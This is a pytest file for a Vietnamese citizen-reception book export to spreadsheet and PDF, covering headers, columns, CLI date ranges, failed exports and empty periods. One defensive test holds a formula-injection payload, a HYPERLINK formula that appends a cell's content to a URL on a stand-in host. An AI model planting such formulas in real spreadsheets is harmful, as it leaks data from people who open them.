"""The reception book as a spreadsheet: opened back with openpyxl, it holds the PDF's rows, column by column."""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from db.enums import Classification, Competence, DocumentKind, Outcome, PetitionDecision
from desktop.cli import main
from desktop.core.access import NOBODY
from desktop.core.cases.letters import issue_letter
from desktop.core.database import Database
from desktop.core.errors import NotFoundError
from desktop.core.reception.book_print import BookPeriod, book_period, export_book_xlsx, print_book
from desktop.documents.book import COLUMNS
from desktop.documents.book_xlsx import HEADER_ROWS
from tests.core.reception.test_book_print import TODAY, _petition, _visit
from tests.documents.conftest import PdfProbe
from tests.documents.test_book import column_text


def _book(database: Database) -> None:
    """Visits of February and March 2026 handled every way, with their petitions and letters."""
    moment = dt.datetime(2026, 2, 10, 8, 0)
    guided = _visit(database, moment, outcome=Outcome.GUIDE)
    transferred = _visit(
        database, moment + dt.timedelta(days=1), outcome=Outcome.TRANSFER, classification=Classification.RECOMMENDATION
    )
    ours = _visit(database, moment + dt.timedelta(days=2), prior_resolution="Ủy ban nhân dân xã Mỹ Hòa Hưng")
    _visit(
        database,
        moment + dt.timedelta(days=3),
        outcome=Outcome.APPOINTMENT,
        appointment_at=dt.datetime(2026, 2, 20, 8, 0),
        appointment_place="Phòng tiếp công dân số 2",
    )
    _visit(database, moment + dt.timedelta(days=30), outcome=Outcome.ANSWER, outcome_note="Đã giải thích")
    guide = _petition(database, guided, Competence.OTHER_BODY, "Tòa án nhân dân khu vực 1", PetitionDecision.GUIDE)
    transfer = _petition(database, transferred, Competence.OTHER_BODY, "Sở Tài chính", PetitionDecision.TRANSFER)
    _petition(database, ours, Competence.OURS)
    with database.sessions.begin() as session:
        issue_letter(session, DocumentKind.GUIDANCE, guide, data_dir=database.data_dir, today=TODAY, viewer=NOBODY)
        issue_letter(session, DocumentKind.TRANSFER, transfer, data_dir=database.data_dir, today=TODAY, viewer=NOBODY)


def _as_text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, dt.datetime):
        return value.strftime("%d/%m/%Y")
    return str(value)


def _sheet(path: Path) -> list[tuple[str, ...]]:
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    return [tuple(_as_text(value) for value in row) for row in sheet.iter_rows(values_only=True)]


def _squeezed(text: str) -> str:
    return "".join(text.split())


def test_the_spreadsheet_holds_the_pdf_rows_under_the_official_header(database: Database, tmp_path: Path) -> None:
    _book(database)
    target = tmp_path / "so-tiep-cong-dan.xlsx"

    with database.sessions() as session:
        visits = export_book_xlsx(session, BookPeriod.of_year(2026), target, actor=NOBODY)
        printed = print_book(
            session, 2026, actor=NOBODY, data_dir=database.data_dir, keep=False, output=tmp_path / "printed.pdf"
        )
    rows = _sheet(target)
    pdf = PdfProbe(printed.pdf, tmp_path / "book.pdf")

    assert visits == printed.visits == 5
    assert rows[0][0] == "ỦY BAN NHÂN DÂN TỈNH AN GIANG"
    assert rows[0][5] == "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"
    assert rows[1][0] == "BAN TIẾP CÔNG DÂN TỈNH AN GIANG"
    assert rows[1][5] == "Độc lập - Tự do - Hạnh phúc"
    assert rows[3][0] == "SỔ TIẾP CÔNG DÂN"
    assert rows[4][0] == "Năm 2026"
    assert rows[HEADER_ROWS - 2] == tuple(title for title, _, _ in COLUMNS)
    assert rows[HEADER_ROWS - 1] == tuple(f"({number})" for number in range(1, 14))
    body = rows[HEADER_ROWS:]
    assert [row[0] for row in body] == ["1", "2", "3", "4", "5"]
    assert body[0][9].startswith("Tòa án nhân dân khu vực 1\nVăn bản hướng dẫn số ")
    assert body[1][10].startswith("Sở Tài chính\nPhiếu chuyển đơn số ")
    assert [row[8] for row in body] == ["", "", "x", "", ""]
    for column in range(len(COLUMNS)):  # the same text, whatever the line breaks
        in_pdf = column_text(pdf, column, range(1, pdf.page_count + 1))
        assert _squeezed(in_pdf) == _squeezed("".join(row[column] for row in body)), COLUMNS[column][0]


def test_cli_writes_the_format_of_the_extension_and_a_period(
    database: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _book(database)
    database.dispose()
    whole, march, pdf = tmp_path / "nam.xlsx", tmp_path / "thang3.XLSX", tmp_path / "thang2.pdf"
    data = ["--data-dir", str(database.data_dir), "print", "book"]

    assert main([*data, "2026", "-o", str(whole)]) == 0
    assert main([*data, "--from", "01/03/2026", "--to", "31/03/2026", "-o", str(march)]) == 0
    assert main([*data, "--from", "2026-02-01", "--to", "2026-02-28", "-o", str(pdf)]) == 0
    out = capsys.readouterr().out

    assert len(_sheet(whole)) == HEADER_ROWS + 5
    march_rows = _sheet(march)
    assert march_rows[4][0] == "(Từ ngày 01/03/2026 đến ngày 31/03/2026)"
    assert [row[:2] for row in march_rows[HEADER_ROWS:]] == [("1", "12/03/2026")]
    assert pdf.read_bytes().startswith(b"%PDF-")
    assert "Đã ghi sổ tiếp công dân (2026, 5 lượt tiếp)" in out
    assert "Đã in sổ tiếp công dân (01/02/2026 - 28/02/2026, 4 lượt tiếp)" in out
    assert not (database.data_dir / "documents" / "2026" / "book-2026.pdf").exists()  # a part of a year is not kept


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("--from", "01/03/2026"), "Hãy cho cả --from và --to"),
        (("2026", "--from", "01/03/2026", "--to", "31/03/2026"), "không cho cả hai"),
        (("--from", "31/02/2026", "--to", "31/03/2026"), '--from "31/02/2026" không phải là ngày'),
        (("--from", "31/03/2026", "--to", "01/03/2026"), "Khoảng thời gian kết thúc (01/03/2026)"),
        (("--from", "01/01/2025", "--to", "31/01/2025"), "Không có lượt tiếp nào từ ngày 01/01/2025"),
    ],
)
def test_cli_period_errors_say_what_to_give(
    database: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str], args: tuple[str, ...], message: str
) -> None:
    database.dispose()
    out = tmp_path / "x.xlsx"

    assert main(["--data-dir", str(database.data_dir), "print", "book", *args, "-o", str(out)]) == 1

    assert message in capsys.readouterr().err
    assert not out.exists()
    assert not list(tmp_path.glob("*.part"))


def test_an_export_that_fails_half_way_leaves_no_file(
    database: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from desktop.core.reception import book_print

    _book(database)
    real_row = book_print._row

    def failing_row(number: int, *args: Any) -> Any:
        if number == 3:
            raise RuntimeError("the disk went away")
        return real_row(number, *args)

    monkeypatch.setattr(book_print, "_row", failing_row)
    folder = tmp_path / "out"
    target = folder / "book.xlsx"
    folder.mkdir()
    target.write_bytes(b"the book of last month")

    with database.sessions() as session, pytest.raises(RuntimeError):
        export_book_xlsx(session, BookPeriod.of_year(2026), target, actor=NOBODY)

    assert list(folder.iterdir()) == [target]
    assert target.read_bytes() == b"the book of last month"


def test_a_period_without_visits_writes_nothing(database: Database, tmp_path: Path) -> None:
    target = tmp_path / "out" / "empty.xlsx"
    with database.sessions() as session, pytest.raises(NotFoundError, match="từ ngày 01/01/2026 đến ngày 31/01/2026"):
        export_book_xlsx(session, book_period(dt.date(2026, 1, 1), dt.date(2026, 1, 31)), target, actor=NOBODY)

    assert not target.parent.exists()


def test_a_content_that_looks_like_a_formula_stays_text(database: Database, tmp_path: Path) -> None:
    """A content typed (or imported from a hostile old book) as "=HYPERLINK(...)" would run as a
    formula in the spreadsheet of whoever opens the exported book."""
    hostile = '=HYPERLINK("http://127.0.0.1/?"&C7,"Xem")'
    _visit(database, dt.datetime(2026, 3, 2, 2, 0, tzinfo=dt.UTC), content_summary=hostile)
    path = tmp_path / "book.xlsx"
    with database.sessions() as session:
        export_book_xlsx(session, BookPeriod.of_year(2026), path, actor=NOBODY)
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == hostile]
    assert cells, "the content is exported"
    assert all(cell.data_type == "s" for cell in cells)
